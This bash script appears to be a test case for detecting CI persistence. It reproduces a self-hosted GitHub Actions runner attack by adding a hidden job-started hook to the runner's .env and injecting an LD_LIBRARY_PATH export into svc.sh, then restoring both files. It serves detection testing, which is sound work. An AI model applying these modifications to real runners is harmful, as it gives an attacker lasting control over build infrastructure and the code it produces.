#!/bin/bash
# technique: T1546 Event Triggered Execution; T1543.002 Create or Modify System Process: Systemd Service
# reproduces: PyTorch self-hosted runner persistence (Praetorian, 2024): a job on a non-ephemeral runner keeps a foothold by changing the runner itself; here a job-started hook in the runner's .env and a line in svc.sh (both fakes under $BW_ATTACK_TMP)
# expect: persistence-write ^bash$
# expect: persistence-write ^sed$
# exec-borne: no
set -u

runner=
for d in "${RUNNER_ROOT:-}" "${BW_ATTACK_TMP:?}/actions-runner"; do
	if [ -n "$d" ] && [ -f "$d/.runner" ]; then runner=$d; break; fi
done
[ -n "$runner" ] || { echo "no runner found" >&2; exit 1; }

saved=$(mktemp -d "${BW_ATTACK_TMP:?}/bak.XXXXXX")
cat "$runner/.env" >"$saved/env.orig"
cat "$runner/svc.sh" >"$saved/svc.orig"
restore() {
	cat "$saved/env.orig" >"$runner/.env"
	cat "$saved/svc.orig" >"$runner/svc.sh"
	rm -rf "$saved"
}
trap restore EXIT

hook="$runner/_diag/.cache-hook.sh"
# runs before every job this runner takes
echo "ACTIONS_RUNNER_HOOK_JOB_STARTED=$hook" >>"$runner/.env"
# and at service start
sed -i "/^#!/a export LD_LIBRARY_PATH=$runner/_diag/.lib" "$runner/svc.sh"
grep -q ACTIONS_RUNNER_HOOK_JOB_STARTED "$runner/.env" && grep -q _diag/.lib "$runner/svc.sh"
